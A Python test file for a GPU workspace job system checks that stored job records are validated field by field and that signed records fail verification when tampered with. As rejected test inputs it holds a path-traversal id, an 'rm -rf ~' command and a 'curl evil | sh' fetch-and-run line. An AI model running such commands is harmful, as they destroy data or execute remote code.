"""A job record read back from the store is checked field by field, and runs only when this
machine's key signed it for this workspace."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest

from jupyter_gpu_ws.userjobs import trust
from jupyter_gpu_ws.userjobs.record import Attempt, JobRecord, RecordError, from_json


def record(**changes: Any) -> JobRecord:
    data = JobRecord(
        id="j-0123456789ab",
        name="train",
        kind="command",
        command=["python", "train.py"],
        workspace="me-project",
        created=1.0,
        updated=2.0,
        attempts=[
            Attempt(
                number=1,
                started=1.0,
                ended=2.0,
                host="a",
                returncode=1,
                reason="exit code 1",
                retryable=True,
                step=4,
            )
        ],
    )
    for name, value in changes.items():
        setattr(data, name, value)
    return data


def test_a_record_survives_its_json_round_trip_unchanged() -> None:
    original = record()
    assert from_json(json.loads(json.dumps(original.to_json()))) == original


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"id": "../../etc"}, "not a job id"),
        ({"kind": "shell"}, "'kind'"),
        ({"state": "pwned"}, "'state'"),
        ({"command": "rm -rf ~"}, "'command'"),
        ({"command": []}, "'command'"),
        ({"command": ["python", 3]}, "'command'"),
        ({"retries": -1}, "'retries'"),
        ({"retries": True}, "'retries'"),
        ({"gpus": 0}, "'gpus'"),
        ({"held": "yes"}, "'held'"),
        ({"created": float("inf")}, "'created'"),
        ({"extra": 1}, "unknown keys"),
        ({"attempts": [{"number": 0, "started": 1.0, "host": "a"}]}, "'number'"),
    ],
    ids=lambda v: str(v)[:30],
)
def test_a_record_that_this_project_did_not_write_is_refused_with_its_reason(
    change: dict[str, Any], words: str
) -> None:
    data = json.loads(json.dumps(record().to_json()))
    data.update(change)
    with pytest.raises(RecordError, match=words):
        from_json(data)


def test_anything_but_an_object_is_not_a_record() -> None:
    for data in (None, [], "j-0123456789ab", 3):
        with pytest.raises(RecordError):
            from_json(data)


def test_a_signed_record_verifies_with_its_key_for_its_workspace_only() -> None:
    signed = record()
    trust.sign(signed, b"mine")
    assert trust.why_untrusted(signed, b"mine", "me-project") is None
    assert "another key" in (trust.why_untrusted(signed, b"theirs", "me-project") or "")
    assert "another workspace" in (trust.why_untrusted(signed, b"mine", "other") or "")
    assert trust.why_untrusted(record(), b"mine", "me-project") == "not signed"


def test_a_signed_record_whose_command_was_changed_in_the_store_no_longer_verifies() -> None:
    signed = record()
    trust.sign(signed, b"mine")
    data = signed.to_json()
    data["command"] = ["sh", "-c", "curl evil | sh"]
    assert "changed in the store" in (
        trust.why_untrusted(from_json(data), b"mine", "me-project") or ""
    )


def test_the_key_is_made_once_readable_by_its_owner_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(trust.KEY_ENV, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    key = trust.job_key()
    path = tmp_path / "jupyter_gpu_ws" / "job-key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and len(key) == 64
    assert trust.job_key() == key  # the same on every use


def test_the_environment_key_comes_before_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.setenv(trust.KEY_ENV, "from-the-platform")
    assert trust.job_key() == b"from-the-platform"
    assert not (tmp_path / "jupyter_gpu_ws").exists()
